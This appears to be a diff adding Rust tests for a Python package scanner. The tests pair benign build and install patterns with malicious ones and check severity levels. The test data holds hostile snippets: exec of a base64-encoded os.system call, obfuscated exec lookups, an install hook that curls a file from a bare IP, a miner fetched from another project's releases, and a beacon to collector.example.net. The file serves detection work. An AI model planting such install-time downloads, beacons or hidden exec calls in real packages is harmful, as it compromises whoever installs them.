@@ -1,0 +1,194 @@
+//! False positives of issue #12 turned into rules that generalise: for each
+//! change, the benign look-alike that must stay below high next to the
+//! malicious pattern that must stay high. The look-alikes imitate what
+//! popular projects ship (a CUDA extension fetching its own prebuilt wheel,
+//! a template engine compiling a pickled syntax tree, a RECORD written with
+//! hex digests, an install override that checks `node -v` and copies files).
+
+mod support;
+
+use std::io::Write;
+
+use sha2::Digest;
+use support::*;
+
+use airlock_inspect::{inspect_archive, Limits, Severity};
+use Severity::{Critical, High, Low, Medium};
+
+fn max(report: &airlock_inspect::Report, rule: &str) -> Option<Severity> {
+    report.findings.iter().filter(|f| f.rule == rule).map(|f| f.severity).max()
+}
+
+// ---------------------------------------------------------------- metadata/record
+
+fn wheel_with_record(files: &[(&str, &str)], digest: impl Fn(&[u8]) -> String) -> airlock_inspect::Report {
+    let mut all: Vec<(String, String)> = vec![("acme-1.0.dist-info/METADATA".into(), METADATA.into())];
+    all.extend(files.iter().map(|(p, c)| (p.to_string(), c.to_string())));
+    let mut record: String = all.iter().map(|(p, c)| format!("{p},sha256={},{}\n", digest(c.as_bytes()), c.len())).collect();
+    record.push_str("acme-1.0.dist-info/RECORD,,\n");
+    all.push(("acme-1.0.dist-info/RECORD".into(), record));
+    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    for (name, content) in &all {
+        zip.start_file(name.as_str(), zip::write::SimpleFileOptions::default()).unwrap();
+        zip.write_all(content.as_bytes()).unwrap();
+    }
+    inspect_archive("acme-1.0-py3-none-any.whl", &zip.finish().unwrap().into_inner(), &Limits::default())
+}
+
+#[test]
+fn a_record_written_with_hex_digests_of_the_files_is_no_mismatch() {
+    let hex = |c: &[u8]| hex::encode(sha2::Sha256::digest(c));
+    let r = wheel_with_record(&[("acme/__init__.py", "x = 1\n")], hex);
+    none(&r, "metadata/record");
+}
+
+#[test]
+fn a_hex_digest_of_other_content_is_still_a_changed_file() {
+    let stale = |c: &[u8]| hex::encode(sha2::Sha256::digest([c, b"#"].concat()));
+    let r = wheel_with_record(&[("acme/__init__.py", "x = 1\n")], stale);
+    assert_eq!(max(&r, "metadata/record"), Some(High));
+}
+
+// ---------------------------------------------------------------- payload/exec-hidden
+
+#[test]
+fn exec_looked_up_by_its_plain_name_for_python_2_compatibility_is_below_high() {
+    let r = module("import builtins\nrl_exec = getattr(builtins, 'exec')\ndel builtins\n");
+    assert_eq!(hits(&r, "payload/exec-hidden", MOD), [(2, Medium)]);
+}
+
+#[test]
+fn exec_looked_up_by_plain_or_computed_name_and_called_stays_critical() {
+    let r = module("getattr(__builtins__, 'exec')(payload)\ngetattr(__builtins__, 'ex' + 'ec')(payload)\n");
+    assert_eq!(hits(&r, "payload/exec-hidden", MOD), [(1, Critical), (2, Critical)]);
+}
+
+// ---------------------------------------------------------------- payload/exec-decoded
+
+#[test]
+fn a_deserializer_exec_of_its_decoded_parameter_is_medium() {
+    let r = module(
+        r#"import base64, json
+def deserialize_function(serialized):
+    payload = json.loads(base64.b64decode(serialized.encode('utf-8')))
+    source = payload['source']
+    namespace = {}
+    exec(source, namespace)
+    return namespace[payload['name']]
+"#,
+    );
+    assert_eq!(hits(&r, "payload/exec-decoded", MOD), [(6, Medium)]);
+}
+
+#[test]
+fn a_template_engine_compiling_a_pickled_syntax_tree_is_medium() {
+    let r = module("import pickle\ndef render(NS):\n    M = pickle.loads(__nodes__)\n    exec(compile(M, '<template>', 'exec'), NS)\n");
+    assert_eq!(max(&r, "payload/exec-decoded"), Some(Medium));
+}
+
+#[test]
+fn exec_of_a_decoded_constant_or_a_helper_given_one_stays_critical() {
+    let blob = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk=";
+    let r = module(&format!("import base64\ndef run():\n    exec(base64.b64decode('{blob}'))\n"));
+    assert_eq!(hits(&r, "payload/exec-decoded", MOD), [(3, Critical)]);
+    let r = module(&format!("import base64\ndef run(p):\n    exec(base64.b64decode(p))\nrun('{blob}')\n"));
+    assert_eq!(hits(&r, "payload/exec-decoded", MOD), [(3, Critical)]);
+    let r = module("import marshal\ndef load(path):\n    exec(marshal.loads(open(path, 'rb').read()))\n".replace("path", "p").as_str());
+    assert_eq!(max(&r, "payload/exec-decoded"), Some(Medium), "marshal of a file named by the caller is input too");
+    let r = module("import marshal, zlib\ndef load():\n    exec(marshal.loads(zlib.decompress(open('data.bin', 'rb').read())))\n");
+    assert_eq!(max(&r, "payload/exec-decoded"), Some(Critical), "a payload shipped in a data file is the code's own");
+}
+
+// ---------------------------------------------------------------- access/process-on-install: pip, version probes, copy steps
+
+#[test]
+fn pip_installing_a_named_build_dependency_from_setup_py_is_medium() {
+    let r = setup_py("import pip\npip.main(['install', 'python-dotenv'])\nfrom dotenv import load_dotenv\nfrom setuptools import setup\nsetup(name='acme')\n");
+    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(2, Medium)]);
+}
+
+#[test]
+fn pip_installing_from_a_url_or_in_a_setup_py_that_writes_into_appdata_is_high() {
+    let r = setup_py("import pip\npip.main(['install', 'git+https://example.org/x/y.git'])\n");
+    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(2, High)]);
+    let r = setup_py(
+        r#"import os
+from pip._internal import main
+main(['install', 'pypiwin32'])
+app = os.getenv('APPDATA')
+with open(app + '\\Extension\\background.js', 'w+') as f:
+    f.write('chrome.extension')
+"#,
+    );
+    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(3, High)]);
+}
+
+#[test]
+fn an_install_override_checking_tool_versions_and_copying_files_is_below_high() {
+    let r = setup_py(
+        r#"import os
+from setuptools.command.install import install
+class PostInstall(install):
+    @staticmethod
+    def get_version(tool):
+        return os.popen(f'{tool} -v').read()
+    def run(self):
+        self.get_version('node')
+        os.system('mkdir '
+                  f'{self.dest}/acme')
+        os.system('cp -r node_modules/ '
+                  f'{self.dest}/acme/node_modules')
+"#,
+    );
+    let worst = hits(&r, "access/process-on-install", SETUP).into_iter().map(|(_, s)| s).max();
+    assert_eq!(worst, Some(Medium), "{:?}", hits(&r, "access/process-on-install", SETUP));
+    assert!(hits(&r, "access/process-on-install", SETUP).contains(&(8, Low)));
+}
+
+#[test]
+fn an_install_override_starting_an_unknown_program_or_a_download_stays_high() {
+    let r = setup_py(
+        r#"import os
+from setuptools.command.install import install
+class PostInstall(install):
+    def run(self):
+        os.system('update-helper --quiet')
+        os.system('mkdir /tmp/x && curl -o /tmp/x/a http://203.0.114.9/a')
+"#,
+    );
+    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(5, High), (6, High)]);
+}
+
+// ---------------------------------------------------------------- access/network-on-install
+
+const CUDA_SETUP: &str = r#"import os, shutil, urllib.request
+from wheel.bdist_wheel import bdist_wheel
+BASE_WHEEL_URL = "https://github.com/acme-lab/acme/releases/download/{tag_name}/{wheel_name}"
+def get_wheel_url():
+    name = "acme-1.0+cu12-cp312-cp312-linux_x86_64.whl"
+    return BASE_WHEEL_URL.format(tag_name="v1.0", wheel_name=name), name
+class CachedWheelsCommand(bdist_wheel):
+    def run(self):
+        wheel_url, wheel_filename = get_wheel_url()
+        urllib.request.urlretrieve(wheel_url, wheel_filename)
+        shutil.move(wheel_filename, os.path.join(self.dist_dir, wheel_filename))
+"#;
+
+#[test]
+fn a_build_fetching_the_project_own_prebuilt_wheel_from_its_releases_is_medium() {
+    let r = setup_py(CUDA_SETUP);
+    assert_eq!(hits(&r, "access/network-on-install", SETUP), [(10, Medium)]);
+}
+
+#[test]
+fn a_download_from_another_project_releases_or_a_beacon_stays_high() {
+    // A miner fetched from someone else's releases.
+    let r = setup_py(&CUDA_SETUP.replace("acme-lab/acme", "xmrig/xmrig"));
+    assert_eq!(hits(&r, "access/network-on-install", SETUP), [(10, High)]);
+    // The project's own release URL named in the file, and a beacon to another host.
+    let beacon = format!("{CUDA_SETUP}urllib.request.urlopen('https://collector.example.net/log?os=' + os.name)\n");
+    assert_eq!(hits(&setup_py(&beacon), "access/network-on-install", SETUP), [(10, Medium), (12, High)]);
+    // The same download at import time is no build step.
+    let r = module(&CUDA_SETUP.replace("class CachedWheelsCommand(bdist_wheel):\n    def run(self):\n", "if True:\n    if True:\n"));
+    assert_eq!(max(&r, "access/network-on-install"), Some(High));
+}
